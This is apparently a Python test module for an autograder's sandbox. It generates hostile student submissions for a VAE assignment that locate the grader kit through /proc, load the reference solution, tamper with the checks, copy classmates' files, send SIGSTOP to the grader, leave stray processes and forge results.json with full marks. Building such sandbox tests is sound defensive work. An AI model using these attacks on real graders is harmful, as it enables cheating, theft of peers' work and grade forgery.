"""Hostile submissions, written as a student would write them: inside the graded functions.

Each is the assignment with every graded function replaced by a call to ``attack(...)``,
which tries one thing and raises when it cannot, so a submission scores more than 0 only if
its attack worked. What an attack manages to take is also written, where it can, to LOOT (a
world-writable folder the test made), so the test can tell.
"""
import textwrap

from grader.parts import FUNCTIONS
from submissions import stub_source

# The kit, found the way an attacker would: the grader's processes name it in /proc.
FIND = '''
def _grader_processes():
    import os
    found = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode() for a in f.read().split(b"\\0") if a]
            cwd = os.readlink(f"/proc/{pid}/cwd") if pid.isdigit() else ""
        except OSError:
            continue
        if pid.isdigit() and int(pid) != os.getpid() and "grader" in argv:
            found.append((int(pid), argv, cwd))
    return found


def _kit():
    import os
    candidates = [KIT_HINT, "/autograder/source"]  # where it is known to live
    for pid, argv, cwd in _grader_processes():
        candidates += [cwd] + [a for a in argv if a.startswith("/")]
    for path in candidates:
        while path and path != "/":
            if os.path.exists(os.path.join(path, "solution", "vae.py")):
                return path
            path = os.path.dirname(path)
    raise RuntimeError("no kit found")
'''

ATTACKS = {
    # Load the reference from the kit and answer with it: 100/100 if it can be read.
    "steal_reference": '''
def attack(name, *args, **kwargs):
    import importlib.util, os
    spec = importlib.util.spec_from_file_location("ref", os.path.join(_kit(), "solution", "vae.py"))
    ref = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(ref)
    return getattr(ref, name)(*args, **kwargs)
''',
    # Change the reference and the checks for every student graded after this one.
    "write_kit": '''
def attack(name, *args, **kwargs):
    import os
    kit = _kit()
    for path in ("solution/vae.py", "grader/checks.py", "grader/expected.py"):
        with open(os.path.join(kit, path), "a") as f:
            f.write("\\nraise SystemExit('tampered')\\n")
    raise RuntimeError("wrote the kit")
''',
    # Copy the classmates' submissions, from the folder named on the grader's command line.
    "copy_classmates": '''
def attack(name, *args, **kwargs):
    import os, shutil
    for pid, argv, cwd in _grader_processes():
        if "grade" in argv:
            folder = os.path.join(cwd, argv[argv.index("grade") + 1])
            for entry in os.listdir(folder):
                path = os.path.join(folder, entry)
                if os.path.isfile(path):
                    shutil.copy(path, os.path.join(LOOT, entry))
                    shutil.copy(path, os.path.join("/tmp", "stolen-" + entry))
    raise RuntimeError("copied")
''',
    # Freeze the grader: SIGSTOP to the parent and to every grader process it can see.
    "stop_grader": '''
def attack(name, *args, **kwargs):
    import os, signal
    for pid in [os.getppid()] + [pid for pid, argv, cwd in _grader_processes()]:
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    raise RuntimeError("stopped")
''',
    # Leave a process behind: empty environment, a new session, double fork, no pipe.
    "linger": '''
def attack(name, *args, **kwargs):
    import os
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 1024)
            os.execve("/bin/sleep", ["sleep", LINGER_SECONDS], {})
        os._exit(0)
    os.wait()
    raise RuntimeError("left a process")
''',
    # Rewrite Gradescope's results.json with full marks after the grader has written it.
    "forge_results": '''
def attack(name, *args, **kwargs):
    import json, os, time
    root = None
    for pid, argv, cwd in _grader_processes():
        if "--root" in argv:
            root = argv[argv.index("--root") + 1]
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 1024)
            forged = {"score": 100.0, "output": "forged", "tests": []}
            for _ in range(300):
                try:
                    with open(os.path.join(root or "/autograder", "results", "results.json"), "w") as f:
                        json.dump(forged, f)
                except Exception:
                    pass
                time.sleep(0.05)
            os._exit(0)
        os._exit(0)
    os.wait()
    raise RuntimeError("forging")
''',
}

CALLS = {  # how each graded function hands its arguments on
    "sample_latent_variables_from_posterior": "encoder_output",
    "bernoulli_log_prob": "targets, logits",
    "compute_KL": "q_means_and_log_stds",
    "vae_lower_bound": "gen_params, rec_params, data",
    "adam_step": "params, gradient, m, v, t, learning_rate, beta1, beta2, epsilon",
}

LINGER_SECONDS = "613.25"  # how the test finds a process left behind, in any PID namespace


def attack_source(kind, loot="/nonexistent", kit_hint="/nonexistent"):
    """The assignment with every graded function answering through ``attack``."""
    source = stub_source()
    stub = "    # YOUR CODE HERE\n    raise NotImplementedError()"
    for function in FUNCTIONS:
        at = source.index(stub, source.index(f"def {function}("))
        source = source[:at] + f"    return attack({function!r}, {CALLS[function]})" + source[at + len(stub):]
    return (source + f"\nLOOT = {loot!r}\nKIT_HINT = {kit_hint!r}\nLINGER_SECONDS = {LINGER_SECONDS!r}\n" + FIND + textwrap.dedent(ATTACKS[kind]))
